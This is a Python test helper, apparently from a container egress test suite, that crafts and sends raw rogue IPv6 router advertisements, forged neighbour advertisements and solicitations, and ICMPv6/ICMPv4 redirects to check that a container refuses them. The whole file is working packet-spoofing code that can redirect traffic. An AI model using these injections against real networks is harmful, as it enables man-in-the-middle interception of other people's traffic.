#!/usr/bin/env python3
"""nd-inject.py MODE ...: what a neighbour on the container's link sends to change where the
container's packets go (egress.bats rogue-ra, refused: redirects).  Run as root in the fake
internet's namespace.

  ra DEV PREFIX           a router advertisement from DEV's link-local address to ff02::1
                          (hop limit 255): router lifetime 1800 s (a default route through
                          the sender) and PREFIX/64 on-link and autonomous (an address)
  redirect6 DEV VICTIM TARGET DEST
                          an ICMPv6 redirect from DEV's link-local address to VICTIM: DEST is
                          better reached through TARGET
  na DEV TARGET MAC       an unsolicited neighbour advertisement (override, not solicited) from
                          DEV's link-local address to ff02::1: TARGET is at MAC
  na-solicited DEV TARGET MAC VICTIM
                          the same with the solicited flag, to VICTIM's address (nobody asked);
                          MAC,MAC2: one for each, back to back (first-answer-race)
  ns DEV SRC TARGET MAC   a neighbour solicitation from SRC (an address of DEV's: the gateway's,
                          as the neighbour would forge it) for TARGET, to TARGET, with MAC as
                          its source link-layer address option
  redirect4 SRC VICTIM GW DEST PORT
                          an ICMP host redirect from SRC to VICTIM quoting a UDP datagram
                          VICTIM:40002 -> DEST:PORT: DEST is better reached through GW"""
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def link_local(dev):
    with open("/proc/net/if_inet6") as f:
        for line in f:
            a, _, _, scope, _, name = line.split()
            if name == dev and scope == "20":
                return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(a))
    sys.exit("no link-local address on " + dev)


def send6(dev, icmp, dst, src=None):
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    idx = socket.if_nametoindex(dev)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    s.bind((src or link_local(dev), 0, 0, idx))
    s.sendto(icmp, (dst, 0, 0, idx))  # the kernel sums ICMPv6


mode = sys.argv[1]
if mode == "ra":
    dev, prefix = sys.argv[2], sys.argv[3]
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    pio = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0,
                      socket.inet_pton(socket.AF_INET6, prefix))
    send6(dev, ra + pio, "ff02::1")
elif mode == "na":
    dev, target, mac = sys.argv[2:5]
    na = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000, socket.inet_pton(socket.AF_INET6, target))
    tlla = struct.pack("!BB6s", 2, 1, bytes.fromhex(mac.replace(":", "")))
    send6(dev, na + tlla, "ff02::1")
elif mode == "na-solicited":
    dev, target, mac, victim = sys.argv[2:6]
    na = struct.pack("!BBHI16s", 136, 0, 0, 0x60000000, socket.inet_pton(socket.AF_INET6, target))
    for m in mac.split(","):
        send6(dev, na + struct.pack("!BB6s", 2, 1, bytes.fromhex(m.replace(":", ""))), victim)
elif mode == "ns":
    dev, src, target, mac = sys.argv[2:6]
    ns = struct.pack("!BBHI16s", 135, 0, 0, 0, socket.inet_pton(socket.AF_INET6, target))
    sllao = struct.pack("!BB6s", 1, 1, bytes.fromhex(mac.replace(":", "")))
    send6(dev, ns + sllao, target, src)
elif mode == "redirect6":
    dev, victim, target, dest = sys.argv[2:6]
    rd = struct.pack("!BBHI16s16s", 137, 0, 0, 0, socket.inet_pton(socket.AF_INET6, target),
                     socket.inet_pton(socket.AF_INET6, dest))
    send6(dev, rd, victim)
elif mode == "redirect4":
    src, victim, gw, dest, port = sys.argv[2:7]
    udp = struct.pack("!HHHH", 40002, int(port), 8, 0)
    inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0x4000, 64, 17, 0,
                        socket.inet_aton(victim), socket.inet_aton(dest))
    inner = inner[:10] + struct.pack("!H", csum(inner)) + inner[12:]
    icmp = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton(gw)) + inner + udp
    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.bind((src, 0))
    s.sendto(icmp, (victim, 0))
else:
    sys.exit("usage: nd-inject.py ra|na|na-solicited|redirect6|redirect4 ...")
